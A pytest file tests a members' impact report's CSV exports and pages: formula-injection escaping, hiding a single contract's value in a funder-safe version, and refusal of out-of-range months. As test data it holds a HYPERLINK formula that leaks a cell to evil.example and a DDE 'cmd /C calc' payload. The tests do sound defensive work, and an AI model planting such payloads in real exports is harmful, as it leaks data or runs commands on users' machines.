"""The impact report's exports and pages against the attacks of issue 15: a formula in a CSV cell
(item 5), figures that give a hidden one away (item 14), a period at the edge of the calendar (item 10)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.members import impact
from services.members.models import Member
from services.members.rules import impact_figures
from tests.support.impact_pages import Browser, contract_won, deliver_all, sale

QUERY = "from=2026-01&to=2026-12"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your payout")'
A_NUMBER = re.compile(r"-?\d+")


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def rename(coop, member_id: int, name: str) -> None:
    """Give a member a name however it got in (an old row, an import, another way round the forms)."""
    with coop.runtime.db.transaction() as session:
        session.get(Member, member_id).name = name


# -- item 5: no cell of a CSV runs as a formula ----------------------------------------------------------

def test_a_business_named_as_a_formula_comes_out_of_the_report_csv_as_text(coop):
    seller = coop.member(name=HYPERLINK)
    deliver_all(coop, [sale(seller.member_id)])
    rows = csv_rows(Browser(coop, coop.coordinator()).get(f"/report.csv?{QUERY}"))
    names = [row[1] for row in rows if row and row[0] == str(seller.member_id)]
    assert names == ["'" + HYPERLINK]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
def test_no_cell_of_the_report_csv_starts_a_formula(coop, start):
    seller = coop.member()
    rename(coop, seller.member_id, f"{start}1+cmd|' /C calc'!A0")
    deliver_all(coop, [sale(seller.member_id)])
    rows = csv_rows(Browser(coop, coop.coordinator()).get(f"/report.csv?{QUERY}"))
    cells = [cell for row in rows for cell in row]
    assert f"'{start}1+cmd|' /C calc'!A0" in cells
    assert all(A_NUMBER.fullmatch(cell) or cell.lstrip()[:1] not in "=+-@\t\r＝" or cell == ""
               for cell in cells)


def test_a_negative_figure_stays_a_number_in_the_csv(coop):
    seller = coop.member()
    deliver_all(coop, [sale(seller.member_id, 2_000)])
    with coop.runtime.db.sessionmaker() as session:
        figures = impact_figures.coordinators_version(impact.impact_report(session, dt.date(2026, 3, 1),
                                                                   dt.date(2026, 3, 1)))
    figures["members"][0]["earnings_pence"] = -1_800
    assert [str(seller.member_id), figures["members"][0]["name"], "2000", "-1800", "0"] in list(
        csv.reader(io.StringIO(impact_figures.as_csv(figures))))


# -- item 14: the funder-safe version gives nothing away ------------------------------------------------

def test_the_funder_safe_csv_and_page_hide_the_value_of_one_contract(coop):
    deliver_all(coop, [contract_won(198_000)])
    browser = Browser(coop, coop.coordinator())
    rows = csv_rows(browser.get(f"/report.csv?{QUERY}&version=funder"))
    assert ["contracts_won", impact_figures.SUPPRESSED] in rows
    assert ["contracts_won_pence", impact_figures.SUPPRESSED] in rows
    assert not any("198000" in cell for row in rows for cell in row)
    page = browser.get(f"/?{QUERY}&version=funder").get_data(as_text=True)
    assert "1,980" not in page and "198000" not in page


def test_the_coordinators_version_still_shows_the_value(coop):
    deliver_all(coop, [contract_won(198_000)])
    rows = csv_rows(Browser(coop, coop.coordinator()).get(f"/report.csv?{QUERY}"))
    assert ["contracts_won_pence", "198000"] in rows


# -- item 10: a period at the edge of the calendar is refused, never a 500 ------------------------------

@pytest.mark.parametrize("query", ["to=9999-12", "from=9999-01&to=9999-12", "from=0000-01&to=0000-02",
                                   "from=1999-12&to=2000-02", "from=٢٠٢٦-٠١"])
@pytest.mark.parametrize("page", ["/", "/print", "/report.csv"])
def test_a_period_off_the_calendar_is_refused_with_a_message(coop, page, query):
    response = Browser(coop, coop.coordinator()).get(f"{page}?{query}")
    assert response.status_code == 422 and 'role="alert"' in response.get_data(as_text=True)


def test_a_period_reaching_a_year_ahead_is_reported(coop):
    ahead = impact_figures.latest_month(dt.date.today())
    assert Browser(coop, coop.coordinator()).get(f"/?to={ahead:%Y-%m}").status_code == 200


def test_a_period_past_a_year_ahead_is_refused(coop):
    ahead = impact_figures.latest_month(dt.date.today())
    after = dt.date(ahead.year + ahead.month // 12, ahead.month % 12 + 1, 1)
    response = Browser(coop, coop.coordinator()).get(f"/?to={after:%Y-%m}")
    assert response.status_code == 422 and "Choose months from January 2000" in response.get_data(as_text=True)


months = st.builds("{:04d}-{:02d}".format, st.integers(0, 9999), st.integers(0, 13))
# A NUL or a lone surrogate is refused before any view, with 400, by every service (shared/http.py).
texts = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=8)
periods = st.fixed_dictionaries({}, optional={"from": st.one_of(months, texts), "to": st.one_of(months, texts)})


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(period=periods, page=st.sampled_from(["/", "/print", "/report.csv"]),
       version=st.sampled_from(["coordinators", "funder"]))
def test_any_period_is_reported_or_refused(coop, period, page, version):
    client = Browser(coop, coop.coordinator()).client
    response = client.get(f"/impact{page}", query_string={**period, "version": version})
    assert response.status_code in (200, 422)
